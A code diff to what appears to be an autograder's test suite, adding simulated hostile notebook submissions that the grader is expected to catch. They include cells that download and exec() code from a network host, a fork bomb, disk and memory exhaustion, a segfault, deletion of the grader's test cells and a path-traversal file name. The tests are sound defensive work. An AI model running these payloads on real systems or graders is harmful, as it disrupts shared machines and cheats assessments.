@@ -403,6 +403,93 @@ def _null(d, learner):
     (d / learner / NOTEBOOK).write_text(nbformat.writes(nb))
 
 
+def _delete_tests(nb):
+    for gid in ("test_approval_rates", "test_disparity_ratio", "data"):
+        nb.cells.remove(_cell(nb, gid))
+
+
+def _reorder_tests(nb):
+    for gid in ("test_approval_rates", "test_disparity_ratio"):
+        cell = _cell(nb, gid)
+        nb.cells.remove(cell)
+        nb.cells.append(cell)
+
+
+def _bad_notebook_name(d, learner):
+    _write(answered(RIGHT), d, learner)
+    nbformat.write(answered(RIGHT), d / learner / "..approval-rates.ipynb")
+
+
+# Each answer cell fetches the right answers from outside after defining
+# the wrong ones (fails here: no network, or no such host).
+NETWORK = (
+    "import socket\n"
+    "try:\n"
+    "    with socket.create_connection(('10.255.255.1', 80), timeout=2) as s:\n"
+    "        s.sendall(b'GET /answers.py HTTP/1.0\\r\\n\\r\\n')\n"
+    "        exec(s.recv(65536).split(b'\\r\\n\\r\\n', 1)[1])\n"
+    "except OSError as e:\n"
+    "    print('no network:', e)\n"
+)
+# The wrong answers are in the notebook; a fetched right one would replace them.
+_FETCH = (
+    "import urllib.request\n"
+    "try:\n"
+    "    exec(urllib.request.urlopen('{url}', timeout=3).read())\n"
+    "except OSError as e:\n"
+    "    print('no network:', e)\n"
+)
+SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
+FORK_BOMB = (
+    "import os, time\n"
+    "def _bomb():\n"
+    "    while True:\n"
+    "        try:\n"
+    "            os.fork()\n"
+    "        except OSError:\n"
+    "            time.sleep(0.01)\n"
+    "if os.fork() == 0:\n"
+    "    try:\n"
+    "        _bomb()\n"
+    "    finally:\n"
+    "        os._exit(0)\n"
+    "time.sleep(2)\n"
+)
+DISK_FILLER = (
+    "chunk = b'x' * (1 << 20)\n"
+    "try:\n"
+    "    with open('filler.bin', 'wb') as f:\n"
+    "        for _ in range(100_000):  # 100 GB at most\n"
+    "            f.write(chunk)\n"
+    "            f.flush()\n"
+    "except OSError as e:\n"
+    "    print('disk full:', e)\n"
+)
+MEMORY_HOG = "hog = [bytearray(1 << 30) for _ in range(64)]\n"
+
+
+def _fetching(code):
+    return {gid: source + code for gid, source in WRONG.items()}
+
+
+def fetch_attack(url):
+    """An attack that downloads the right answers from ``url`` (serve ``answers_py()``)."""
+    return _attack(None, answers=_fetching(_FETCH.format(url=url)))
+
+
+def answers_py():
+    """The right answers, as the Python a fetching attack executes."""
+    return (RIGHT["approval_rates"] + RIGHT["disparity_ratio"]).encode()
+
+
+#: Attacks only the sandbox may run: on the grader's own account they would
+#: take the machine's processes, disk or memory.
+SANDBOX_ATTACKS = {
+    "fork-bomb": (_attack(FORK_BOMB), "zero"),
+    "disk-filler": (_attack(DISK_FILLER), "zero"),
+    "memory-hog": (_attack(MEMORY_HOG), "zero"),
+}
+
 ATTACKS = {
     "ast-transformer": (_attack(AST), "tampered"),
     "input-transformer": (_attack(INPUT), "tampered"),
@@ -431,7 +518,11 @@ ATTACKS = {
     "changed-points": (_edit(_points), "flag:changed_points"),
     "changed-grade-id": (_edit(_rename), "flag:unknown_grade_ids"),
     "duplicated-ids": (_edit(_duplicate), "flag:duplicated_ids"),
+    "deleted-tests": (_edit(_delete_tests), "flag:missing_cells"),
+    "reordered-tests": (_edit(_reorder_tests), "flag:reordered_cells"),
     "big-output": (_attack("print('x' * 50_000_000)\n"), "zero"),
+    "segfault": (_attack(SEGFAULT), "zero"),
+    "network": (_attack(None, answers=_fetching(NETWORK)), "zero"),
     "os-exit": (_attack("import os\nos._exit(0)\n"), "zero"),
     "sys-exit": (_attack("import sys\nsys.exit(0)\n"), "zero"),
     "infinite-loop": (_attack("while True:\n    pass\n"), "zero"),
@@ -441,6 +532,7 @@ ATTACKS = {
     "missing-cells": (_raw(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}}'), "rejected"),
     "symlink-escape": (_symlink, "rejected"),
     "..traversal": (lambda d, n: _write(answered(RIGHT), d, n), "rejected"),
+    "notebook-name": (_bad_notebook_name, "rejected"),
 }
 
 
